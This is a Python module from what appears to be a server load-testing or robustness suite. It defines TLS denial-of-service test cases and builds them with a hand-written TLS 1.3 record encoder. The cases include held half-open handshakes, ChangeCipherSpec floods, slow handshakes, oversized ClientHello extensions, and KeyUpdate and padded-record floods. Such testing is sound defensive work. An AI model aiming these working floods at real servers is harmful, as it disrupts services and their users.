"""The attacks on TLS, some with records of TLS 1.3 that TLS libraries do not send; docstrings describe the bytes."""

from __future__ import annotations

import hmac
import itertools
import socket
import ssl
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM, ChaCha20Poly1305

from loadtest.attacks import frames
from loadtest.attacks.attacker import Attacker, Cases, repeated
from loadtest.attacks.http1_cases import dribble
from loadtest.live_server import client_context

CASES = Cases()
# Types of records. Source: RFC 8446, 5.1.
_HANDSHAKE, _DATA = 22, 23
_TAG_BYTES = 16


class _Records:
    """Encoder of a client's encrypted records. Source: RFC 8446, 4.6.3, 5.2, 5.3, 7.1, 7.2 and 7.3.

    Args:
      suite: name of the cipher suite.
      secret: the first secret of the client's application data.
    """

    def __init__(self, suite: str, secret: bytes) -> None:
        self._hash = "sha384" if suite.endswith("SHA384") else "sha256"
        self._cipher = ChaCha20Poly1305 if "CHACHA20" in suite else AESGCM
        self._key_bytes = 16 if "AES_128" in suite else 32
        self._use(secret)

    def _use(self, secret: bytes) -> None:
        self._secret, self._number = secret, 0
        self._iv = int.from_bytes(self._derived(b"iv", 12))
        self._key = self._cipher(self._derived(b"key", self._key_bytes))

    def _derived(self, label: bytes, size: int) -> bytes:
        """Derives bytes from the secret (HKDF-Expand-Label); at most as many as the hash has."""
        name = b"tls13 " + label
        data = size.to_bytes(2) + bytes([len(name)]) + name + b"\0\1"
        return hmac.digest(self._secret, data, self._hash)[:size]

    def record(self, kind: int, content: bytes, *, padding: int = 0) -> bytes:
        """Encodes one record; padding: number of zero bytes after its content."""
        plain = content + bytes([kind]) + bytes(padding)
        head = b"\x17\3\3" + (len(plain) + _TAG_BYTES).to_bytes(2)
        nonce = (self._iv ^ self._number).to_bytes(12)
        self._number += 1
        return head + self._key.encrypt(nonce, plain, head)

    def key_update(self) -> bytes:
        sent = self.record(_HANDSHAKE, b"\x18\0\0\1\1")
        self._use(self._derived(b"traffic upd", 48 if self._hash == "sha384" else 32))
        return sent


@contextmanager
def _handshake(protocol: str) -> Iterator[Callable[[socket.socket], _Records]]:
    """Prepares a TLS 1.3 handshake; yields the function that makes it on a socket that blocks.

    Prepared before the connection is made, because a server gives little time for a handshake. The function returns the
    encoder of the client's records.

    Args:
      protocol: offered by ALPN.
    """
    with tempfile.TemporaryDirectory() as folder:
        log = Path(folder) / "keys"
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.set_alpn_protocols([protocol])
        context.keylog_filename = str(log)
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(incoming, outgoing)

        def shake_hands(sock: socket.socket) -> _Records:
            is_done = False
            while not is_done:
                try:
                    tls.do_handshake()
                    is_done = True
                except ssl.SSLWantReadError:
                    pass
                sock.sendall(outgoing.read())
                if not is_done and not incoming.write(sock.recv(1 << 16)):
                    raise ConnectionError("the server closed in the handshake")
            cipher = tls.cipher()
            assert cipher is not None
            (line,) = [line for line in log.read_text().splitlines() if line.startswith("CLIENT_TRAFFIC_SECRET_0 ")]
            return _Records(cipher[0], bytes.fromhex(line.split()[2]))

        yield shake_hands


# The beginning of a TLS handshake: its ClientHello announces 512 bytes and holds only 50.
_BEGUN_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50)


CASES.row(
    "handshakes",
    "Begins TLS handshakes on 300 connections, and sends nothing after their first bytes.",
    lambda attacker: attacker.hold(300, _BEGUN_HELLO, is_raw=True),
    "tls",
)
CASES.row(
    "whole_handshakes",
    "Makes complete TLS handshakes one after another, and closes each connection without a request.",
    Attacker.open_and_close,
    "tls",
    is_ended=False,
)


@CASES.add("tls")
def change_cipher_specs(attacker: Attacker) -> None:
    """Sends the first bytes of a TLS handshake, and then records of the type ChangeCipherSpec without pause."""
    attacker.flood(
        itertools.chain([_BEGUN_HELLO], repeated(b"\x14\x03\x03\x00\x01\x01")), attacker.connect(is_raw=True)
    )


@CASES.add("tls")
def large_hellos(attacker: Attacker) -> None:
    """Sends the first 60 KB of a ClientHello of 65 KB on each of 300 connections, and never the rest."""
    attacker.hold(300, _in_records(b"\x01\x00\xfe\x00\x03\x03" + bytes(60_000)), is_raw=True)


@CASES.add("tls")
def slow_handshakes(attacker: Attacker) -> None:
    """Opens 200 connections on which TLS handshakes arrive byte by byte."""
    dribble(attacker, _BEGUN_HELLO[:6], b"\0", is_raw=True)


@CASES.add("tls", is_ended=False)
def hellos_at_once(attacker: Attacker) -> None:
    """Sends valid ClientHellos on 300 connections at once, closes them after the answers, and begins again."""
    hello = _client_hello(attacker)
    while not attacker.is_over:
        conns = attacker.connections(300, is_raw=True)
        for conn in conns:
            conn.send([hello], attacker.end_s)
        for conn in conns:
            conn.answer(attacker.end_s)
            conn.end()


def _client_hello(attacker: Attacker) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_context("h2" if attacker.target.wire == "http2" else "http/1.1").wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a client waits for the server's part of the handshake")


def _listed(item: bytes, size: int) -> bytes:
    items = item * (size // len(item))
    return len(items).to_bytes(2) + items


# Extensions of a ClientHello with 28 KB each. Source: RFC 8446, 4.2, RFC 6066, 3, and RFC 7301, 3.1.
_LONG_EXTENSIONS = {
    "names": (0, _listed(b"\0\0\1a", 28_000)),
    "name": (0, (28_003).to_bytes(2) + b"\0" + (28_000).to_bytes(2) + b"a" * 28_000),
    "odd name": (0, (28_003).to_bytes(2) + b"\0" + (28_000).to_bytes(2) + b"\xff" * 28_000),
    "protocols": (16, _listed(b"\1h", 28_000)),
    "groups": (10, _listed(b"\x6a\x6a", 28_000)),
    "algorithms": (13, _listed(b"\x08\x04", 28_000)),
    "shares": (51, _listed(b"\x6a\x6a\0\1x", 28_000)),
    "identities": (41, _listed(b"\0\1x\0\0\0\0", 21_000) + _listed(b"\x20" + bytes(32), 7_000)),
}


@CASES.add("tls", is_ended=False)
def odd_hellos(attacker: Attacker) -> None:
    """Sends ClientHellos with an extension of 28 KB: server names, protocols, groups, algorithms, keys or tickets."""
    hellos = itertools.cycle([_hello(number, data) for number, data in _LONG_EXTENSIONS.values()])
    while not attacker.is_over:
        conn = attacker.connect(is_raw=True)
        if conn is not None:
            conn.send([next(hellos)], attacker.end_s)
            conn.answer(attacker.end_s)
            conn.end()


def _hello(number: int, data: bytes) -> bytes:
    versions = b"\0\x2b\0\3\2\3\4"
    key_share = (
        b"" if number == 51 else b"\0\x33" + (38).to_bytes(2) + (36).to_bytes(2) + b"\0\x1d\0\x20" + b"\x09" * 32
    )
    extensions = versions + key_share + number.to_bytes(2) + len(data).to_bytes(2) + data
    body = b"\3\3" + bytes(32) + b"\0" + _listed(b"\x13\1", 2) + b"\1\0" + len(extensions).to_bytes(2) + extensions
    return _in_records(b"\1" + len(body).to_bytes(3) + body)


def _in_records(message: bytes) -> bytes:
    parts = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    return b"".join(b"\x16\3\1" + len(part).to_bytes(2) + part for part in parts)


@CASES.add("tls")
def key_updates(attacker: Attacker) -> None:
    """Sends messages that change the keys of a TLS connection, with an empty record of data after every 30 messages."""
    _flood_records(attacker, lambda records: [records.key_update() for _ in range(30)] + [records.record(_DATA, b"")])


@CASES.add("tls")
def padded_records(attacker: Attacker) -> None:
    """Sends TLS records of 16 KB that each hold one byte of data and padding."""
    _flood_records(attacker, lambda records: [records.record(_DATA, b"x", padding=16_000)])


def _flood_records(attacker: Attacker, pieces: Callable[[_Records], list[bytes]]) -> None:
    """Sends records on one connection until the server closes it or the time is over.

    Args:
      pieces: returns the next records.
    """
    target = attacker.target
    if target.wire == "http2":
        opening = frames.PREFACE + frames.settings() + target.open_request(1)
    else:
        opening = target.head() + b"x: "
    with _handshake("h2" if target.wire == "http2" else "http/1.1") as shake_hands:
        conn = attacker.connect(is_raw=True)
        if conn is None:
            return
        conn.sock.settimeout(max(attacker.end_s - time.monotonic(), 0.001))
        try:
            records = shake_hands(conn.sock)
        finally:
            conn.sock.setblocking(False)
    chunks = (b"".join(itertools.chain.from_iterable(pieces(records) for _ in range(20))) for _ in itertools.count())
    conn.send(itertools.chain([records.record(_DATA, opening)], chunks), attacker.end_s)
